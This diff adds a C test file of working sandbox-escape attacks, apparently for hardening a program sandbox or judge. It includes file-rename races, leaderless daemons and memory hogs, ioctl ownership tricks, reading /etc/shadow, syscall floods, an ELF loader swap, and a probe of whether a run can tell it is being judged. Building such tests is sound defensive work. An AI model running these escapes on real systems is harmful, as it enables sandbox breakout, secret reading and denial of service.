@@ -1,0 +1,244 @@
+/* Ways not to be seen: paths that change, threads without a leader, memory that only the kernel reads, floods. */
+#include "attack.h"
+#include <elf.h>
+#include <pthread.h>
+#include <sys/ioctl.h>
+#include <sys/socket.h>
+#include <sys/un.h>
+
+static void copy_self(const char *to) {
+    char buffer[1 << 16];
+    int in = open("/proc/self/exe", O_RDONLY), out = open(to, O_WRONLY | O_CREAT | O_TRUNC, 0755);
+    for (ssize_t n; (n = read(in, buffer, sizeof buffer)) > 0;) write(out, buffer, n);
+    close(in), close(out);
+}
+static void start(const char *path) {
+    pid_t child = vfork();
+    if (child == 0) {
+        execl(path, "x", "again", (char *)0);
+        _exit(1);
+    }
+    waitpid(child, 0, 0);
+}
+/* Two names are exchanged all the time while the first of them is executed. */
+static int race(const char *one, const char *other, const char *run) {
+    int null = open("/dev/null", O_WRONLY), out = dup(1);
+    dup2(null, 1);
+    pid_t racer = fork();
+    if (racer == 0)
+        for (;;) syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, 2 /* RENAME_EXCHANGE */);
+    for (int i = 0; i < 300; i++) start(run);
+    kill(racer, SIGKILL);
+    waitpid(racer, 0, 0);
+    dup2(out, 1);
+    return 1;
+}
+ATTACK(race_to_device) {
+    copy_self("x");
+    symlink("/dev/zero", "l");
+    int done = race("x", "l", "./x");
+    unlink("x"), unlink("l");
+    return done;
+}
+ATTACK(race_to_host_file) {
+    char top[300];
+    strcpy(top, param);
+    char *name = strrchr(top, '/');
+    *name++ = 0;
+    char run[300], mine[300];
+    sprintf(run, "./d/%s", name);
+    mkdir("d", 0755);
+    sprintf(mine, "d/%s", name);
+    copy_self(mine);
+    symlink(top, "l");
+    int done = race("d", "l", run);
+    unlink("l"), unlink("d"), unlink(mine);
+    rmdir("d"), rmdir("l");
+    char other[300];
+    sprintf(other, "l/%s", name);
+    unlink(other), rmdir("l");
+    return done;
+}
+static void *linger(void *unused) {
+    sleep(12);
+    return unused;
+}
+ATTACK(daemon_without_leader) {
+    if (fork() == 0) {
+        setsid();
+        close(0), close(1), close(2);
+        pthread_t t;
+        pthread_create(&t, 0, linger, 0);
+        syscall(SYS_exit, 0);
+    }
+    usleep(200000);
+    return 1;
+}
+static void *take(void *unused) {
+    size_t size = 400u << 20;
+    char *all = mmap(0, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+    usleep(200000);
+    memset(all, 1, size);
+    sleep(3);
+    printf("ESCAPED memory\n");
+    fflush(stdout);
+    _exit(0);
+}
+ATTACK(memory_without_leader) {
+    pthread_t t;
+    pthread_create(&t, 0, take, 0);
+    syscall(SYS_exit, 0);
+    return 0;
+}
+static int fill(int fd) {
+    static char block[1 << 20];
+    memset(block, 1, sizeof block);
+    for (int i = 0; i < 20; i++) if (write(fd, block, sizeof block) < 0) return 0;
+    return 1;
+}
+ATTACK(memory_in_flight) {
+    int pair[2];
+    if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair)) return 0;
+    for (int i = 0; i < 20; i++) {
+        int fd = memfd_create("m", 0);
+        char space[CMSG_SPACE(sizeof fd)] = {0}, byte = 0;
+        struct iovec part = {&byte, 1};
+        struct msghdr m = {.msg_iov = &part, .msg_iovlen = 1, .msg_control = space, .msg_controllen = sizeof space};
+        struct cmsghdr *c = CMSG_FIRSTHDR(&m);
+        c->cmsg_level = SOL_SOCKET, c->cmsg_type = SCM_RIGHTS, c->cmsg_len = CMSG_LEN(sizeof fd);
+        memcpy(CMSG_DATA(c), &fd, sizeof fd);
+        if (sendmsg(pair[0], &m, 0) < 0) return 0;
+        if (!fill(fd)) return 0;
+        close(fd);
+    }
+    return 1;
+}
+static int hide(void *unused) {
+    (void)unused;
+    for (;;) pause();
+}
+ATTACK(memory_in_a_thread) {
+    static char stack[1 << 16];
+    int flags = CLONE_VM | CLONE_FS | CLONE_SIGHAND | CLONE_THREAD | CLONE_SYSVSEM;
+    return clone(hide, stack + sizeof stack, flags, 0) != -1;
+}
+static int owner(unsigned long request) {
+    int pair[2], pid = getpid();
+    if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair)) return 0;
+    return ioctl(pair[0], request, &pid) == 0;
+}
+ATTACK(owner_by_fiosetown) { return owner(0x8901); }
+ATTACK(owner_by_siocspgrp) { return owner(0x8902); }
+ATTACK(owner_by_high_bits) {
+    int pair[2], pid = getpid();
+    if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair)) return 0;
+    return syscall(SYS_ioctl, pair[0], 0x8901 | 7L << 32, &pid) == 0;
+}
+#ifdef __x86_64__
+ATTACK(owner_by_i386) {
+    int pair[2];
+    long result;
+    static int pid;
+    int *low = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
+    if (low == MAP_FAILED || socketpair(AF_UNIX, SOCK_STREAM, 0, pair)) return 0;
+    *low = pid = getpid();
+    __asm__ volatile("int $0x80" : "=a"(result) : "a"(54), "b"(pair[0]), "c"(0x8901), "d"(low) : "memory");
+    errno = -result;
+    return result == 0;
+}
+#endif
+ATTACK(socket_cookie) {
+    unsigned long cookie;
+    socklen_t size = sizeof cookie;
+    int pair[2];
+    if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair)) return 0;
+    return getsockopt(pair[0], SOL_SOCKET, 57, &cookie, &size) == 0;
+}
+ATTACK(write_only_page) {
+    char *page = mmap(0, 4096, PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+    strcpy(page, "/etc/shadow");
+    return open(page, O_RDONLY) != -1;
+}
+ATTACK(memfd_secret) { return syscall(447, 0) != -1; }
+ATTACK(open_flood_host) {
+    char name[200];
+    for (int i = 0; i < 12000; i++) {
+        char *at = name + sprintf(name, "/usr");
+        for (int bit = 0; bit < 14; bit++) at += sprintf(at, i >> bit & 1 ? "/bin/.." : "/lib/..");
+        close(open(name, O_RDONLY | O_PATH));
+    }
+    return 0;
+}
+ATTACK(denial_flood) {
+    for (long i = 0; i < 3000; i++) syscall(SYS_ioctl, 0, i << 32 | 0x40086602, 0);
+    for (int i = 0; i < 3000; i++) socket(AF_INET, SOCK_DGRAM, i);
+    for (int i = 0; i < 64; i++) for (int j = 0; j < 16; j++) socket(i == 1 ? 2 : i, j, 0);
+    return syscall(SYS_mount, "none", ".", "tmpfs", 0, 0) != -1;
+}
+static int again(void) { return execl("/proc/self/exe", "x", "again", (char *)0); }
+ATTACK(own_program_again) { return output_of(again, "AGAIN"); }
+ATTACK(own_loader) {
+    /* A copy of this program that names an allowed program in the place of its loader. */
+    copy_self("i");
+    int fd = open("i", O_RDWR);
+    Elf64_Ehdr *elf = mmap(0, lseek(fd, 0, SEEK_END), PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
+    Elf64_Phdr *part = (Elf64_Phdr *)((char *)elf + elf->e_phoff);
+    for (int i = 0; i < elf->e_phnum; i++)
+        if (part[i].p_type == PT_INTERP) {
+            memset((char *)elf + part[i].p_offset, 0, part[i].p_filesz);
+            strcpy((char *)elf + part[i].p_offset, "/usr/bin/xz");
+        }
+    munmap(elf, 1);
+    close(fd);
+    start("./i");
+    unlink("i");
+    return 1;
+}
+static void show(const char *name) {
+    char line[4096];
+    FILE *file = fopen(name, "r");
+    printf("== %s\n", name);
+    while (file && fgets(line, sizeof line, file)) {
+        /* What is counted, not what is set up. */
+        if (strstr(name, "status") && (!strncmp(line, "Vm", 2) || !strncmp(line, "Rss", 3) || strstr(line, "ctxt"))) continue;
+        fputs(line, stdout);
+    }
+    if (file) fclose(file);
+}
+/* All that a start can be told by; it is the same for every start, or an entry knows when it is judged. */
+ATTACK(appearance) {
+    extern char **environ;
+    char name[64], target[256];
+    for (char **e = environ; *e; e++) puts(*e);
+    for (int fd = 0; fd < 64; fd++) {
+        sprintf(name, "/proc/self/fd/%d", fd);
+        ssize_t n = readlink(name, target, 4);
+        if (n > 0) printf("fd %d %.*s\n", fd, (int)n, target);
+    }
+    static const char *const names[] = {"uid_map", "gid_map", "setgroups", "limits", "mounts", "status", "cgroup",
+                                        "oom_score_adj", "timerslack_ns", "autogroup", "personality", "comm"};
+    for (int i = 0; i < 11; i++) {
+        sprintf(name, "/proc/self/%s", names[i]);
+        show(name);
+    }
+    show("/proc/net/dev");
+    show("/proc/net/unix");
+    show("/proc/sysvipc/shm");
+    static const char *const spaces[] = {"net", "user", "mnt", "pid", "ipc", "uts", "cgroup", "time"};
+    for (int i = 0; i < 8; i++) {
+        sprintf(name, "/proc/self/ns/%s", spaces[i]);
+        int fd = open(name, O_RDONLY);
+        for (int request = 0xb701; request <= 0xb704; request++) {
+            errno = 0;
+            int result = ioctl(fd, request, 0);
+            printf("%s %x %s (%s)\n", spaces[i], request, result < 0 ? "no" : "yes", strerror(errno));
+        }
+        close(fd);
+    }
+    printf("pid %d parent %d session %d umask %o\n", getpid(), getppid(), getsid(0), umask(0));
+    unsigned long attr[7] = {0};
+    printf("slice %ld", syscall(SYS_sched_getattr, 0, attr, 56, 0));
+    for (int i = 0; i < 7; i++) printf(" %lx", attr[i]);
+    printf("\n");
+    return 1;
+}
